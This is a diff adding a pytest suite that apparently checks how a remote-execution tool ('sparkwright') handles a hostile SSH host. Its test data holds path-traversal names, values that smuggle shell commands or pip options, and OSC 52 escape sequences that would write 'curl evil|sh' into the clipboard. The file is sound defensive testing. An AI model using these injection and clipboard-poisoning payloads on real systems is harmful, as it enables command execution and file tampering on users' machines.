@@ -1,0 +1,245 @@
+"""A host attacks the laptop over a real sshd: what it answers names no folder here, writes no file, ends no command."""
+
+from __future__ import annotations
+
+import json
+import os
+import stat
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from invoke.exceptions import Exit as InvokeExit
+
+from sparkwright import host_side
+from sparkwright.cli import records, runs
+from sparkwright.errors import Failed, Refused, SparkwrightError
+from sparkwright.plan.events import LINE_BYTES, Event
+from sparkwright.plan.model import Plan
+from sparkwright.remote import runtime
+from sparkwright.remote.ssh import SshLink
+from tests.remote.conftest import Lab
+from tests.remote.hostile import Hostile, finished, recap
+
+pytestmark = pytest.mark.ssh
+
+MISSING = {"event": "runtime_missing", "path": "/usr/bin/python3", "python": "3.12", "machine": "x86_64"}
+
+
+@pytest.fixture
+def hostile(lab: Lab) -> Hostile:
+    return Hostile(lab)
+
+
+@pytest.fixture
+def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
+    """The laptop's home, with a key in it; the runtime's wheels need no network."""
+    folder = tmp_path / "laptop"
+    (folder / ".ssh").mkdir(parents=True)
+    (folder / ".ssh" / "id_ed25519").write_text("PRIVATE KEY\n")
+    monkeypatch.setattr(host_side, "cache", lambda: folder / ".cache" / "sparkwright")
+    return folder
+
+
+def ask(lab: Lab, header: dict[str, Any] | None = None) -> list[Event]:
+    link = SshLink(lab.host())
+    plan = Plan(run_id="run-1", host="spark1", play="Test", steps=())
+    try:
+        return list(link.request(header or {"verb": "run", "plan": plan.to_json()}, {}))
+    finally:
+        link.close()
+
+
+def code_of(command: Any, **options: Any) -> int:
+    try:
+        command.body(None, **options)
+    except InvokeExit as exit:
+        return int(exit.code)
+    return 0
+
+
+# -- the first answer ----------------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("wrong", "why"),
+    [
+        ({"machine": "x86_64/../../../../.ssh"}, "its processor is 'x86_64/"),
+        ({"machine": "riscv64"}, "its processor is 'riscv64'; sparkwright runs on aarch64 and x86_64"),
+        ({"machine": "\x1b]52;c;aGk=\x07"}, r"its processor is .\\x1b\]52"),
+        ({"python": "3.12/../../../.ssh"}, "the Python that spark1 gives is not valid"),
+        ({"python": "3.12 --index-url http://evil"}, "the Python that spark1 gives is not valid"),
+        ({"path": "/usr/bin/python3; id"}, "the path of Python that spark1 gives is not valid"),
+        ({"path": "--version"}, "the path of Python that spark1 gives is not valid"),
+    ],
+)
+def test_what_names_the_runtime_is_matched_before_anything_is_packed(
+    lab: Lab, hostile: Hostile, home: Path, wrong: dict[str, str], why: str
+) -> None:
+    hostile.says({**MISSING, **wrong})
+    with pytest.raises(SparkwrightError, match=why):
+        ask(lab)
+    assert not any(b"PRIVATE KEY" in sent or sent[:2] == b"\x1f\x8b" for sent in hostile.sent)
+    assert not (home / ".cache").exists(), "nothing was made in the cache for it"
+
+
+def test_the_archive_of_a_runtime_lies_in_the_cache_whoever_names_it(home: Path) -> None:
+    with pytest.raises(Failed, match="the processor is not valid"):
+        runtime.archive("3.12", "x86_64/../../../../.ssh")
+    with pytest.raises(Failed, match="the Python is not valid"):
+        runtime.archive("3.12/..", "x86_64")
+
+
+def test_a_host_can_not_have_a_request_twice_by_losing_its_runtime_in_the_middle(lab: Lab, hostile: Hostile) -> None:
+    hostile.says({"event": "run_started", "run": "r", "play": "p"}, MISSING)
+    with pytest.raises(Refused, match="the runtime is not found there"):
+        ask(lab)
+
+
+# -- events --------------------------------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def project(hostile: Hostile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
+    root = hostile.project(tmp_path / "project", "spark2")
+    monkeypatch.chdir(root)
+    yield root
+
+
+def test_the_clipboard_is_not_written(
+    lab: Lab, hostile: Hostile, project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    osc52 = "\x1b]52;c;Y3VybCBldmlsfHNo\x07"
+    nested = finished(status="failed", exit=1, msg=osc52, data={"evidence": [osc52]}, name="\x9b2J")
+    hostile.says({"event": "note", "text": osc52}, f"{osc52}\n".encode(), nested, recap(exit=1, failed=1, msg=osc52))
+    assert code_of(runs.attach, host="spark1") == 1
+    said = capsys.readouterr().out
+    assert said.count("\\x1b]52;c;Y3VybCBldmlsfHNo\\x07") == 5
+    assert not {"\x1b", "\x07", "\x9b"} & set(said)
+
+
+def test_json_stays_json(lab: Lab, hostile: Hostile, project: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    hostile.says(finished(msg="\x1b[2J\ud800", data={"\x1b": float("nan")}), recap(ok=1e999), recap())
+    assert code_of(runs.attach, host="spark1", json=True) == 0
+    said = capsys.readouterr().out
+    one, wrong, last = (json.loads(line, parse_constant=pytest.fail) for line in said.splitlines())
+    assert one["msg"] == "\\x1b[2J\\ud800"
+    assert one["data"] == {"\\x1b": None}
+    assert wrong["event"] == "raw"
+    assert last["exit"] == 0
+    assert "\x1b" not in said
+
+
+@pytest.mark.parametrize("code", [99, -1, True, "0", None, 0.5, [0]])
+def test_an_exit_code_that_is_none_is_a_failure(lab: Lab, hostile: Hostile, project: Path, code: object) -> None:
+    hostile.says(recap(exit=code))
+    assert code_of(runs.attach, host="spark1") == 1
+
+
+def test_a_run_that_does_not_say_how_it_ended_is_a_failure(
+    lab: Lab, hostile: Hostile, project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    hostile.says({"event": "run_started", "run": "r", "play": "p"}, {"event": "recap", "exit": 0})
+    assert code_of(runs.attach, host="spark1") == 1
+    assert "does not say how it ended" in capsys.readouterr().out
+
+
+@pytest.mark.parametrize(
+    "wrong",
+    [
+        {"event": "progress", "done": "many", "total": 1},
+        {"event": "task_started"},
+        {"event": "rolled"},
+        {"event": "host_finished", "exit": 0},
+        {"event": "play_started", "play": "[/red]", "hosts": None},
+        {"event": "task_finished", "status": "ok", "diff": [1]},
+        {"event": 7},
+        {"event": "history", "at": 1e18, "what": "verified"},
+        b"[" * 100_000 + b"\n",
+        b'{"event": "note", "text": ' + b"[" * 500 + b"]" * 500 + b"}\n",
+        b"\xff\xfe\x00\n",
+    ],
+)
+def test_a_malformed_event_is_shown_as_it_is_and_ends_nothing(
+    lab: Lab, hostile: Hostile, project: Path, capsys: pytest.CaptureFixture[str], wrong: Any
+) -> None:
+    hostile.says(wrong, finished(name="the next one"), recap())
+    assert code_of(runs.attach, host="spark1,spark2") == 0
+    said = capsys.readouterr()
+    assert said.out.count("the next one") == 2
+    assert "Error" not in said.out + said.err
+
+
+def test_a_line_without_an_end_is_read_over_in_little_memory(lab: Lab, hostile: Hostile) -> None:
+    size = 80 * 2**20
+    hostile.says(b"A" * size, b"\n", recap())
+    first, last = ask(lab)
+    assert first["event"] == "raw"
+    assert f"{size - LINE_BYTES} bytes more: a line is at most {LINE_BYTES} bytes" in first["text"]
+    assert len(first["text"]) < 3000
+    assert last["event"] == "recap"
+
+
+# -- files ---------------------------------------------------------------------------------------------------------------
+
+
+def bundle(incident: str, *names: str, text: str = "print('pwned')\n") -> list[dict[str, Any]]:
+    return [{"event": "file", "incident": incident, "name": name, "text": text} for name in names]
+
+
+@pytest.mark.parametrize(
+    ("incident", "name"),
+    [
+        ("PROJECT", "tasks.py"),
+        ("../..", "tasks.py"),
+        ("20260101T000000-abc", "../../../tasks.py"),
+        ("20260101T000000-abc", "tasks.py"),
+        (".git", "about.json"),
+    ],
+)
+def test_an_incident_writes_nothing_but_its_own_files(
+    lab: Lab, hostile: Hostile, project: Path, incident: str, name: str
+) -> None:
+    (project / "tasks.py").write_text("mine\n")
+    before = {path: path.read_bytes() for path in project.rglob("*") if path.is_file()}
+    hostile.says(*bundle(incident.replace("PROJECT", str(project)), name))
+    assert code_of(records.incident, host="spark1") == 1
+    assert {path: path.read_bytes() for path in project.rglob("*") if path.is_file()} == before
+
+
+def test_an_incident_is_the_users_alone_and_never_lands_on_another(
+    lab: Lab, hostile: Hostile, project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    about = json.dumps({"time": 1e300, "why": "\x1b]52;c;aGk=\x07"})
+    hostile.says(*bundle("20260101T000000-abc", "about.json", text=about), *bundle("20260101T000000-abc", "meminfo"))
+    before = os.umask(0)
+    try:
+        assert code_of(records.incident, host="spark1") == 0
+    finally:
+        os.umask(before)
+    folder = project / "incidents/spark1/20260101T000000-abc"
+    assert sorted(path.name for path in folder.iterdir()) == ["about.json", "meminfo"]
+    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
+    assert {stat.S_IMODE(path.stat().st_mode) for path in folder.iterdir()} == {0o600}
+    assert "\x1b" not in capsys.readouterr().out
+    (folder / "meminfo").unlink()
+    (folder / "meminfo").symlink_to(project / "tasks.py")
+    assert code_of(records.incident, host="spark1") == 5
+    assert not (project / "tasks.py").exists()
+
+
+def test_a_long_file_of_an_incident_arrives_whole(lab: Lab, hostile: Hostile, project: Path) -> None:
+    from sparkwright.plan.events import event, lines
+
+    log = 'a line with "quotes" and ünïcode 💡\n' * 80_000
+    whole = event("file", incident="20260101T000000-abc", name="container.log", text=log)
+    hostile.says(*lines(whole))
+    assert code_of(records.incident, host="spark1") == 0
+    assert (project / "incidents/spark1/20260101T000000-abc/container.log").read_text() == log
+
+
+def test_a_run_is_what_was_asked_for(lab: Lab, hostile: Hostile, project: Path) -> None:
+    hostile.says(*bundle("20260101T000000-abc", "meminfo"))
+    assert code_of(records.incident, host="spark1", run="20250101T000000-xyz") == 1
+    assert not (project / "incidents").exists()
